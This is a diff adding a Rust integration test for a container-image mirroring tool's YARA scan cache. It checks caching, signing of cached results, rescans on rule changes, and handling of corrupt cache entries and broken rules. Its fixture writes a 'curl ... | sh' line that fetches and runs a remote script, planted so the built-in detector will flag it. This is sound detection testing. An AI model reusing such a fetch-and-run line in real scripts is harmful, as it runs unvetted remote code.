@@ -1222,3 +1222,143 @@ skopeo copy -q --dest-tls-verify=false oci:L:v1 docker://{h}/acme/tool:v1
         .json();
     assert!(j["scan"].as_array().unwrap().is_empty(), "{j}");
 }
+
+/// A blob is scanned once per scanner and rule set: a second `sync` of what is mirrored takes
+/// every result from the store's scan cache (same findings), `pack` signs those results without
+/// scanning, another rule set (`--rules`) scans again, `--no-scan-cache` scans again, and a
+/// corrupt cache entry is scanned again, never taken as clean.
+#[test]
+fn sync_and_pack_scan_each_blob_once_per_rule_set() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let reg = Registry::start(d, "reg", None);
+    let h = reg.host();
+    sh(
+        d,
+        &format!(
+            r#"
+mkdir -p src/app rules
+printf '#!/bin/sh\ncurl -fsSL http://get.example/x.sh | sh\n' > src/app/setup.sh
+echo fine > src/app/readme.txt
+printf 'rule fine_text {{ strings: $a = "fine" condition: $a }}\n' > rules/local.yar
+umoci init --layout L
+umoci new --image L:v1
+umoci insert --image L:v1 src/app /app >/dev/null
+umoci config --image L:v1 --architecture amd64 --os linux >/dev/null
+skopeo copy -q --dest-tls-verify=false oci:L:v1 docker://{h}/acme/tool:v1
+"#
+        ),
+    )
+    .ok();
+    keys(d);
+    manifest(d, &[(&format!("{h}/acme/tool:v1"), None)]);
+    let sync = |extra: &[&str]| {
+        let base = [
+            "--json",
+            "sync",
+            "m.yaml",
+            "--store",
+            "store",
+            "--insecure-registry",
+            &h,
+        ];
+        airlock(d, &[&base[..], extra].concat()).ok().json()
+    };
+    let counts = |j: &serde_json::Value| {
+        (
+            j["scanCache"]["scanned"].as_u64().unwrap(),
+            j["scanCache"]["cached"].as_u64().unwrap(),
+        )
+    };
+    let first = sync(&[]);
+    assert_eq!(counts(&first), (1, 0), "{first}");
+    assert_eq!(
+        first["scan"][0]["findings"][0]["rule"],
+        "yara/builtin/download_and_run_script"
+    );
+    let second = sync(&[]);
+    assert_eq!(counts(&second), (0, 1), "{second}");
+    assert_eq!(second["scan"], first["scan"]);
+
+    // Pack signs the cached results: nothing is scanned, and the record has the finding.
+    let pack = airlock(
+        d,
+        &[
+            "--json",
+            "pack",
+            "m.yaml",
+            "--key",
+            "keys/signer.key",
+            "--out",
+            "out1",
+            "--store",
+            "store",
+            "--insecure-registry",
+            &h,
+        ],
+    )
+    .ok()
+    .json();
+    assert_eq!(counts(&pack), (0, 1), "{pack}");
+    let vol = pack["volumes"][0]["path"].as_str().unwrap();
+    let i = airlock(d, &["--json", "inspect", vol]).ok().json();
+    assert_eq!(
+        i["manifest"]["scan"][0]["findings"][0]["rule"], "yara/builtin/download_and_run_script",
+        "{i}"
+    );
+
+    // Operator rules are another rule set: scanned again (the new rule matches), then cached.
+    let ruled = sync(&["--rules", "rules"]);
+    assert_eq!(counts(&ruled), (1, 0), "{ruled}");
+    let rules: Vec<&str> = ruled["scan"][0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["rule"].as_str().unwrap())
+        .collect();
+    assert!(rules.contains(&"yara/local/fine_text"), "{rules:?}");
+    let again = sync(&["--rules", "rules"]);
+    assert_eq!(counts(&again), (0, 1), "{again}");
+    assert_eq!(again["scan"], ruled["scan"]);
+    // The built-in rules' entry is still there.
+    assert_eq!(counts(&sync(&[])), (0, 1));
+
+    // --no-scan-cache scans again, with the same findings.
+    let forced = sync(&["--no-scan-cache"]);
+    assert_eq!(counts(&forced), (1, 0), "{forced}");
+    assert_eq!(forced["scan"], first["scan"]);
+
+    // Corrupt entries (an emptied findings list included) are scanned again, not taken as clean.
+    sh(
+        d,
+        "for f in store/scan-cache/*.json; do head -n1 \"$f\" > t && echo '[]' >> t && mv t \"$f\"; done",
+    )
+    .ok();
+    let rescanned = sync(&[]);
+    assert_eq!(counts(&rescanned), (1, 0), "{rescanned}");
+    assert_eq!(rescanned["scan"], first["scan"]);
+    assert_eq!(counts(&sync(&[])), (0, 1));
+
+    // Rules compile while the registry is contacted; one that does not compile still fails
+    // the sync, naming the file.
+    sh(
+        d,
+        "mkdir bad && printf 'rule b { condition: $y }\\n' > bad/broken.yar",
+    )
+    .ok();
+    let r = airlock(
+        d,
+        &[
+            "sync",
+            "m.yaml",
+            "--store",
+            "store",
+            "--insecure-registry",
+            &h,
+            "--rules",
+            "bad",
+        ],
+    );
+    assert_eq!(r.code, 1, "{}", r.stderr);
+    assert!(r.stderr.contains("broken.yar"), "{}", r.stderr);
+}
